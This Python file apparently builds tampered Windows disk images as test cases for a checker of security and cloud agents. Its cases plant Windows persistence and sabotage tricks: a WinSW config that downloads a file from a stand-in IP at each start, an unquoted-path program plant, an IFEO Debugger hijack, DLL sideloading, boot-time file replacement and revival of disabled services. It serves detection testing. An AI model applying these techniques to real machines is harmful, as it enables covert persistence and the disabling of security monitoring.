"""The agents' services: registered as they should be, and yet they never run."""
import os
import struct

from windows_disk import *

change = Changes()
SECURITY, MONITOR, CLOUD, DESKTOP = 'WIN-AGENT-001', 'WIN-AGENT-002', 'WIN-CBI-001', 'WIN-CAP-001'


def value(name, service, check, entry, kind, data, why):
    change.row(name, why, check, entry, lambda d: d.system(rf'{SERVICES}\{service}', entry, kind, data))


# --- what a service is ---
@change(SECURITY, 'WinAgent.exe')
def program_of_a_cloud(d):
    """The filter of cloud files (cldflt.sys) refuses a file that no provider knows (error 363), whatever its data are."""
    os.setxattr(d.find(r'WinAgent\WinAgent.exe'), 'system.ntfs_reparse_data', struct.pack('<IHH', 0x9000001A, 4, 0) + b'stub')


change.row('safe-mode-on-disk', 'Whoever asks for the mode of the start finds it there.', SECURITY, 'OptionValue', lambda d: d.system(rf'{CONTROL}\SafeBoot\Option', 'OptionValue', DWORD, 1))
change.row('adapter-switched-off', 'CONFIGFLAG_DISABLED: the adapter stays off (code 22).', 'WIN-CAP-002', 'ConfigFlags', lambda d: d.system(
    r'ControlSet001\Enum\PCI\VEN_1AF4&DEV_1000&SUBSYS_00011AF4&REV_00\3&13c0b0c5&0&28', 'ConfigFlags', DWORD, 1))


@change('WIN-CAP-002', 'FilterRunType')
def mandatory_filter_of_the_network_missing(d):
    """NDIS binds no adapter without a mandatory filter (FilterRunType 1)."""
    ndi = rf'{CONTROL}\Network\{{4D36E974-E325-11CE-BFC1-08002BE10318}}\{{AAAAAAAA-2222-3333-4444-555555555555}}\Ndi'
    d.system(ndi, 'Service', SZ, 'nosuchlwf')
    d.system(ndi, 'FilterRunType', DWORD, 1)
    d.system(rf'{ndi}\Interfaces', 'FilterMediaTypes', SZ, 'ethernet')


change.row('unsigned-program-run-by-winsw', 'WinSW runs as a service what its XML names.', 'WIN-PERSIST-003', 'other.exe', lambda d: (
    d.honest(r'C:\gate\gate-service.exe'), d.foreign(r'C:\gate\other.exe'), d.service('gate', r'"C:\gate\gate-service.exe"'),
    d.put(r'gate\gate-service.xml', '<service><id>gate</id><executable>%BASE%\\other.exe</executable></service>')))
change.row('file-fetched-by-winsw', 'WinSW downloads a file each time it starts.', 'WIN-PERSIST-003', 'download', lambda d: (
    d.honest(r'C:\gate\gate-service.exe'), d.honest(r'C:\gate\gate.exe'), d.service('gate', r'"C:\gate\gate-service.exe"'),
    d.put(r'gate\gate-service.xml', '<service><id>gate</id><executable>%BASE%\\gate.exe</executable><download from="http://203.0.113.7/a" to="%BASE%\\gate.dll"/></service>')))

value('type-recognizer', 'WinAgent', SECURITY, 'Type', DWORD, 8, 'Type 8 is that of a file system recognizer: the service manager starts no process for it.')
value('type-adapter', 'WinAgent', SECURITY, 'Type', DWORD, 4, 'Type 4 (SERVICE_ADAPTER) is reserved: no process is started.')
value('type-kernel-driver', 'WinAgent', SECURITY, 'Type', DWORD, 1, 'Type 1 is that of a kernel driver, and a program is none: loading it fails.')
value('type-user-service', 'WinAgent', SECURITY, 'Type', DWORD, 0x50, 'Type 0x50 is the template of a service for each user: it is not started itself.')
value('type-shared-user-service', 'cloudbase-init', CLOUD, 'Type', DWORD, 0x60, 'Type 0x60 is the template of a shared service for each user: it is not started itself.')
value('type-as-text', 'WinAgent', SECURITY, 'Type', SZ, '16', 'The service manager takes Type as a REG_DWORD alone; without it the service is not registered.')
value('start-as-text', 'WinAgent', SECURITY, 'Start', SZ, '2', 'The service manager takes Start as a REG_DWORD alone.')
value('start-of-64-bits', 'WinAgent', SECURITY, 'Start', QWORD, (2).to_bytes(8, 'little'), 'Start is read as a REG_DWORD; a REG_QWORD is none.')
value('start-on-demand', 'WinAgent', SECURITY, 'Start', DWORD, 3, 'Start 3 waits for somebody who starts the service, and nobody does.')
value('account-that-is-not-there', 'WinAgent', SECURITY, 'ObjectName', SZ, r'.\nobody', 'The logon of an account that is not there fails, and with it the start (error 1069).')
value('account-without-its-password', 'WinAgent', SECURITY, 'ObjectName', SZ, r'.\Administrator',
      'The password of an account is the secret _SC_<service> of the LSA; without it the logon fails (error 1069).')
value('account-of-a-domain', 'win-agent', MONITOR, 'ObjectName', SZ, r'CORP\svc', 'A copy of the image is in no domain: the account can\'t log on.')
value('account-of-another-service', 'win-agent', MONITOR, 'ObjectName', SZ, r'NT SERVICE\x', 'A virtual account can be used by the service of its own name alone.')
value('path-that-is-not-expanded', 'win-agent', MONITOR, 'ImagePath', SZ, r'%SystemDrive%\win-agent\win-agent.exe', 'Variables are expanded in a REG_EXPAND_SZ alone.')
value('depends-on-itself', 'win-agent', MONITOR, 'DependOnService', MULTI, ['win-agent'], 'A circle of dependencies can\'t be started (ERROR_CIRCULAR_DEPENDENCY).')
value('depends-on-a-group-without-members', 'win-agent', MONITOR, 'DependOnService', MULTI, ['+NoGroup'],
      'Read as a group (+, SC_GROUP_IDENTIFIER) or as a service, there is none of that name that could run.')
value('group-without-members', 'win-agent', MONITOR, 'DependOnGroup', MULTI, ['NoSuchGroup'], 'At least one service of the group has to run, and it has none.')
value('protected-process', 'win-agent', MONITOR, 'LaunchProtected', DWORD, 3, 'A protected service starts only a program with a signature of that level, and this one has none.')
value('environment-of-the-service', 'cloudbase-init', CLOUD, 'Environment', MULTI, [r'PYTHONPATH=C:\x'],
      'The service manager adds these variables to those of the process; Python takes its modules from PYTHONPATH first.')
value('other-payload-of-the-wrapper', 'cloudbase-init', CLOUD, 'ImagePath', EXPAND,
      rf'"{CBI}\bin\OpenStackService.exe" cloudbase-init "C:\Windows\explorer.exe" --config-file "{CONFIG}"',
      'OpenStackService.exe runs the command behind the name of the service, whatever that is.')


@change(SECURITY, 'Program.exe')
def short_name_of_another_program(d):
    """A path without quotes that has blanks is tried piece by piece (CreateProcess): C:\\Program.exe is started first."""
    d.foreign('C:\\Program.exe')
    d.honest(r'C:\Program Files\Agent\WinAgent.exe')
    d.system(rf'{SERVICES}\WinAgent', 'ImagePath', EXPAND, r'C:\Program Files\Agent\WinAgent.exe')


# --- what it needs ---
@change(MONITOR, 'Beep')
def depends_on_a_disabled_driver(d):
    """A service whose dependency is disabled is not started (error 1068)."""
    d.driver('Beep', r'System32\drivers\ntfs.sys', 4)
    d.system(rf'{SERVICES}\win-agent', 'DependOnService', MULTI, ['Beep'])


@change(MONITOR, 'DependOnService')
def two_depend_on_each_other(d):
    """Two services that wait for each other: neither starts."""
    for name, other in (('win-agent', 'tatsvc'), ('tatsvc', 'win-agent')):
        d.system(rf'{SERVICES}\{name}', 'DependOnService', MULTI, [other])


@change(CLOUD, 'DependOnService')
def depends_on_what_depends_on_nothing(d):
    """A chain of dependencies breaks at its third link, a service that is not there, and nothing of it starts."""
    for name, other in (('cloudbase-init', 'Winmgmt'), ('Winmgmt', 'RpcSs'), ('RpcSs', 'Gone')):
        d.system(rf'{SERVICES}\{name}', 'DependOnService', MULTI, [other])


def off(name, service, check):
    change.row(f'{name}-is-disabled', f'Without {service} no program reaches the network or the service manager\'s clients: the agent is deaf.', check, service,
               lambda d: d.system(rf'{SERVICES}\{service}', 'Start', DWORD, 4))


off('network', 'Tcpip', MONITOR)
off('remote-procedure-call', 'RpcSs', CLOUD)


@change(DESKTOP, 'Tcpip')
def network_is_gone(d):
    """Without the driver of TCP/IP nothing listens on any port."""
    with d.hive('SYSTEM') as h:
        h.drop(rf'{SERVICES}\Tcpip')


@change(SECURITY, 'Debugger')
def debugger_of_the_agent(d):
    """CreateProcess starts the Debugger of Image File Execution Options in place of the program of that name."""
    d.software(rf'{NT}\Image File Execution Options\WinAgent.exe', 'Debugger', SZ, 'ntsd -d')


@change(SECURITY, 'Debugger')
def debugger_of_the_agent_by_its_path(d):
    """With UseFilter the options of a subkey hold for the program at FilterFullPath."""
    key = rf'{NT}\Image File Execution Options\WinAgent.exe'
    d.software(key, 'UseFilter', DWORD, 1)
    d.software(rf'{key}\1', 'FilterFullPath', SZ, r'C:\WinAgent\WinAgent.exe')
    d.software(rf'{key}\1', 'Debugger', SZ, 'x')


def renamed(name, check, why, *pairs, entry='PendingFileRenameOperations', before=None):
    def make(d):
        if before:
            before(d)
        d.system(SESSION, entry, MULTI, pending(*pairs))
    change.row(name, why, check, entry, make)


renamed('folder-of-the-agent-is-moved', SECURITY, 'The session manager does these operations at the next start, before any service: the second list too.',
        (r'\??\C:\WinAgent', r'!\??\C:\x'), entry='PendingFileRenameOperations2')
renamed('agent-is-replaced-at-the-next-start', SECURITY, 'At the next start another program stands at the agent\'s path.',
        (r'\??\C:\x.exe', r'!\??\C:\WinAgent\WinAgent.exe'), before=lambda d: d.foreign(r'C:\x.exe'))
renamed('interpreter-is-deleted-at-the-next-start', CLOUD, 'An empty second path deletes; without Python cloudbase-init does not run.', (rf'\??\{CBI}\Python', ''))
renamed('both-agents-are-deleted-at-the-next-start', MONITOR, 'An empty second path deletes; the list holds as many operations as it has pairs.',
        (r'\??\C:\WinAgent\WinAgent.exe', ''), (r'\??\C:\win-agent\win-agent.exe', ''))


@change(SECURITY, '25000080')
def safe_mode(d):
    """In safe mode only services below Control\\SafeBoot start, and no agent is there."""
    with d.hive('BCD') as h:
        h.element('{11111111-1111-1111-1111-111111111111}', 0x25000080, bytes(8))


change.row('services-get-a-millisecond', 'A service that does not answer within ServicesPipeTimeout milliseconds counts as failed.', CLOUD, 'ServicesPipeTimeout',
           lambda d: d.system(CONTROL, 'ServicesPipeTimeout', DWORD, 1))


@change(DESKTOP, 'TermService')
def service_in_no_group_of_svchost(d):
    """svchost.exe refuses a service that its group does not list (error 1083)."""
    d.software(rf'{NT}\Svchost', 'NetworkService', MULTI, ['CryptSvc'])
    d.system(rf'{SERVICES}\TermService', 'ImagePath', EXPAND, r'%SystemRoot%\System32\svchost.exe -k NetworkService')


change.row('library-of-the-remote-desktop-is-gone', 'svchost.exe can\'t load a library that is not there (error 126).', DESKTOP, 'ServiceDll',
           lambda d: d.system(rf'{SERVICES}\TermService\Parameters', 'ServiceDll', EXPAND, r'%SystemRoot%\System32\termsrv.dll'))
value('type-of-the-remote-desktop', 'TermService', DESKTOP, 'Type', DWORD, 8, 'Type 8 is that of a file system recognizer: no process is started.')


@change(MONITOR, 'win-agent.exe')
def program_that_is_a_head_alone(d):
    """The head of a PE image without a section: nothing to load."""
    d.put(r'win-agent\win-agent.exe', b'MZ' + bytes(58) + struct.pack('<I', 64) + b'PE\0\0' + struct.pack('<HHIIIHH', 0x8664, 0, 0, 0, 0, 240, 0x22)
          + struct.pack('<H', 0x20B) + bytes(300))


@change(MONITOR, 'TriggerInfo')
def trigger_that_stops(d):
    """A trigger of the first IP address whose action is 2 stops the service (SERVICE_TRIGGER_ACTION_SERVICE_STOP)."""
    d.system(rf'{SERVICES}\win-agent\TriggerInfo\0', 'Type', DWORD, 2)
    d.system(rf'{SERVICES}\win-agent\TriggerInfo\0', 'Action', DWORD, 2)


change.row('agent-in-two-cases', 'In a folder with two names that differ by case alone the one found first is started, here nobody knows which.', MONITOR, 'WIN-AGENT.EXE',
           lambda d: d.twin(r'win-agent\WIN-AGENT.EXE', program('x.exe')))

# --- what runs under an agent's name, and how ---
replaced = {'library-of-the-monitor': r'win-agent\adssensor.dll', 'second-program-of-the-monitor': r'win-agent\agentRepNum.exe'}
for name, path in replaced.items():
    change.row(name, 'It runs with the agent; nobody signed this one.', MONITOR, path.rpartition('\\')[2], lambda d, path=path: d.foreign(path))
change.row('signed-program-under-the-agents-name', 'A signed program does what it was made for, under any name.', MONITOR, 'win-agent.exe',
           lambda d: d.put(r'win-agent\win-agent.exe', d.read(r'Windows\explorer.exe')))
change.row('program-of-the-automation-agent', 'The policy asks for tatsvc, which is no reason to take any program for it.', 'WIN-AGENT-003', 'tat_agent.exe',
           lambda d: d.foreign(r'Program Files\QCloud\tat_agent\tat_agent.exe'))
LAYERS = r'Microsoft\Windows NT\CurrentVersion\AppCompatFlags\Layers'
change.row('mode-of-compatibility', 'Layers by the path of a program: Windows loads its compatibility code into it and may refuse to start it.', MONITOR, 'Layers',
           lambda d: d.software(LAYERS, r'C:\win-agent\win-agent.exe', SZ, '~ WIN95 RUNASADMIN'))
change.row('policy-over-ipsec', 'The active policy of PolicyAgent can block all traffic; it comes before the rules of the firewall.', MONITOR, 'ActivePolicy', lambda d: d.software(
    r'Policies\Microsoft\Windows\IPSec\Policy\Local', 'ActivePolicy', SZ, r'SOFTWARE\Policies\Microsoft\Windows\IPSec\Policy\Local\ipsecPolicy{11111111-2222-3333-4444-555555555555}'))
change.row('rule-that-asks-for-ipsec', 'A rule of connection security drops what the other side does not secure.', MONITOR, 'ConSecRules', lambda d: d.system(
    rf'{SERVICES}\SharedAccess\Parameters\FirewallPolicy\ConSecRules', 'x', SZ, 'v2.30|Action=SecureServer|Active=TRUE|Name=x|'))

# --- services that seem to be switched off ---
def dormant(name, why, make):
    def change_of(d):
        d.service('WinUpd', d.foreign(r'C:\ProgramData\x\x.exe'), 4)
        make(d)
    change.row(name, why, 'WIN-PERSIST-003', 'x.exe', change_of)


dormant('start-override-of-a-service', 'StartOverride replaces Start.', lambda d: d.system(rf'{SERVICES}\WinUpd\StartOverride', '0', DWORD, 2))
dormant('start-at-the-first-start', 'Setup writes what FirstBoot has for a service to its key.', lambda d: d.system(r'Setup\FirstBoot\Services\WinUpd', 'Start', DWORD, 2))

# --- what keeps it from its work ---
OPTIONS = rf'{NT}\Image File Execution Options'
ONLY_MICROSOFT = bytes.fromhex('00000000001000000000000000000000')  # BLOCK_NON_MICROSOFT_BINARIES_ALWAYS_ON, winbase.h
BASIC, AUTOMATION = 'WIN-CAP-002', 'WIN-AGENT-003'


def setting(name, why, check, place, *where, hive='SYSTEM'):
    change.row(name, why, check, place, lambda d: d.value(hive, *where))


def software(name, why, check, place, *where):
    setting(name, why, check, place, *where, hive='SOFTWARE')


software('libraries-of-microsoft-alone', 'With this bit of MitigationOptions a process loads only what Microsoft signed.', MONITOR, 'MitigationOptions',
         rf'{OPTIONS}\win-agent.exe', 'MitigationOptions', BINARY, ONLY_MICROSOFT)
software('interpreter-with-libraries-of-microsoft-alone', 'The same of the interpreter that runs cloudbase-init.', CLOUD, 'python.exe',
         rf'{OPTIONS}\python.exe', 'MitigationOptions', BINARY, ONLY_MICROSOFT)
setting('all-processes-with-libraries-of-microsoft-alone', 'The same of every process (Session Manager\\kernel).', SECURITY, 'MitigationOptions',
        rf'{SESSION}\kernel', 'MitigationOptions', BINARY, ONLY_MICROSOFT)
software('agent-with-idle-priority', 'PerfOptions: class 1 is idle, so that the process runs when nobody else does.', MONITOR, 'CpuPriorityClass',
         rf'{OPTIONS}\win-agent.exe\PerfOptions', 'CpuPriorityClass', DWORD, 1)
setting('agent-that-is-told-to-end', 'The service starts the program with an argument that takes it off.', MONITOR, 'ImagePath',
        rf'{SERVICES}\win-agent', 'ImagePath', EXPAND, r'C:\win-agent\win-agent.exe --uninstall')
change.row('library-beside-the-agent', 'A library beside a program is loaded before that of System32.', MONITOR, 'version.dll', lambda d: d.foreign(r'win-agent\version.dll'))
change.row('library-beside-the-automation-agent', 'The same of the automation agent.', AUTOMATION, 'version.dll', lambda d: d.foreign(r'Program Files\QCloud\tat_agent\version.dll'))


@change(CLOUD, 'ItemData')
def interpreter_is_forbidden(d):
    """Software restriction: a path rule of level 0 forbids the program of that name in every folder."""
    key = r'Policies\Microsoft\Windows\Safer\CodeIdentifiers'
    d.software(key, 'DefaultLevel', DWORD, 0x40000)
    d.software(rf'{key}\0\Paths\{{11111111-2222-3333-4444-555555555555}}', 'ItemData', SZ, 'python.exe')


def applocker(d, path, who='S-1-1-0'):
    key = r'Policies\Microsoft\Windows\SrpV2\Exe'
    d.software(key, 'EnforcementMode', DWORD, 1)
    d.software(rf'{key}\a61c8b2c-a319-4cd0-9690-d2177cad7b51', 'Value', SZ,
               f'<FilePathRule Id="a61c8b2c-a319-4cd0-9690-d2177cad7b51" Name="w" Description="" UserOrGroupSid="{who}" Action="Allow"><Conditions><FilePathCondition Path="{path}"/>'
               '</Conditions></FilePathRule>')


change.row('windows-alone-is-allowed', 'AppLocker: with rules that are enforced nothing starts but what one of them allows.', MONITOR, 'SrpV2', lambda d: applocker(d, r'%WINDIR%\*'))
setting('metadata-is-blocked', 'A rule that blocks the addresses of the metadata and keeps every program from it.', CLOUD, 'FirewallRules',
        rf'{SERVICES}\SharedAccess\Parameters\FirewallPolicy\FirewallRules', 'x', SZ, 'v2.30|Action=Block|Active=TRUE|Dir=Out|RA4=169.254.0.0/255.255.0.0|RA4=10.0.0.0/255.0.0.0|Name=x|')
setting('names-are-blocked', 'A rule that blocks port 53: no name is found.', MONITOR, 'FirewallRules',
        rf'{SERVICES}\SharedAccess\Parameters\FirewallPolicy\FirewallRules', 'x', SZ, 'v2.30|Action=Block|Active=TRUE|Dir=Out|Protocol=17|RPort=50-60|Name=x|')

# --- what stops the machine, or is written over ---
change.row('session-service-is-disabled', 'Without LSM nobody logs on.', BASIC, 'LSM', lambda d: d.service('LSM', r'%SystemRoot%\system32\svchost.exe -k DcomLaunch', 4, 0x20))
change.row('driver-of-disks-is-late', 'The loader takes drivers of start type 0 alone; without them there is no volume of the system.', BASIC, 'partmgr',
           lambda d: d.driver('partmgr', r'System32\drivers\ntfs.sys', 3))
setting('stops-when-the-log-is-full', 'CrashOnAuditFail: the system stops when an event of security can\'t be written.', BASIC, 'CrashOnAuditFail', rf'{CONTROL}\Lsa', 'CrashOnAuditFail', DWORD, 1)
setting('sleeps-after-a-minute', 'The power scheme sends the machine to sleep.', BASIC, 'ACSettingIndex',
        rf'{CONTROL}\Power\User\PowerSchemes\381b4222-f694-41f0-9685-ff5bb260df2e\238c9fa8-0aad-41ed-83f4-97be242c8f20\29f6c1db-86da-48c5-9fdb-f2b67b1f44da', 'ACSettingIndex', DWORD, 60)
setting('verifier-of-drivers', 'The verifier stops the system at the first fault of a driver.', BASIC, 'VerifyDrivers', rf'{SESSION}\Memory Management', 'VerifyDrivers', SZ, '*')
setting('flags-of-all-processes', 'GlobalFlag: the application verifier and the page heap of every process.', BASIC, 'GlobalFlag', SESSION, 'GlobalFlag', DWORD, 0x02000100)
setting('names-in-two-cases', 'With obcaseinsensitive at 0 names of objects and files differ by case.', BASIC, 'obcaseinsensitive', rf'{SESSION}\kernel', 'obcaseinsensitive', DWORD, 0)
setting('protocol-without-an-adapter', 'Adapters below Linkage\\Disabled have no TCP/IP.', BASIC, 'Linkage', rf'{SERVICES}\Tcpip\Linkage\Disabled', 'Bind', MULTI,
        [r'\Device\{11111111-2222-3333-4444-555555555555}'])
software('edition-for-evaluation', 'An evaluation edition shuts down each hour when its time is over.', BASIC, 'EditionID', NT, 'EditionID', SZ, 'ServerDatacenterEval')
software('no-device-may-be-installed', 'The policy keeps the network card of the copy from being installed.', BASIC, 'DenyUnspecified',
         r'Policies\Microsoft\Windows\DeviceInstall\Restrictions', 'DenyUnspecified', DWORD, 1)
for name, where, entry, kind, data in (
        ('pages', rf'{SESSION}\Memory Management', 'PagingFiles', MULTI, [r'C:\win-agent\win-agent.exe 16 16']),
        ('dump', rf'{CONTROL}\CrashControl', 'DedicatedDumpFile', SZ, r'C:\win-agent\win-agent.exe'),
        ('trace', rf'{CONTROL}\WMI\Autologger\x', 'FileName', EXPAND, r'C:\win-agent\win-agent.exe'),
        ('events', rf'{SERVICES}\EventLog\x', 'File', EXPAND, r'C:\win-agent\win-agent.exe')):
    setting(f'agent-as-a-file-of-{name}', 'Windows writes over the file that the value names.', BASIC, entry, where, entry, kind, data)


@change(BASIC, 'VOLUME_IS_DIRTY')
def volume_that_is_checked_first(d):
    """With this flag of $Volume autochk.exe repairs the volume before anything starts, and what it finds lost it takes away."""
    d.close()
    with open(d.path, 'rb') as f:
        f.seek(d.start)
        boot = f.read(512)
        cluster = struct.unpack_from('<H', boot, 11)[0] * boot[13]
        record = d.start + struct.unpack_from('<Q', boot, 48)[0] * cluster + 3 * 1024
        f.seek(record)
        data = f.read(1024)
    at = struct.unpack_from('<H', data, 20)[0]
    while struct.unpack_from('<I', data, at)[0] != 0x70:  # $VOLUME_INFORMATION
        at += struct.unpack_from('<I', data, at + 4)[0]
    flags = at + struct.unpack_from('<H', data, at + 20)[0] + 10
    d.poke(record + flags, struct.pack('<H', struct.unpack_from('<H', data, flags)[0] | 1))
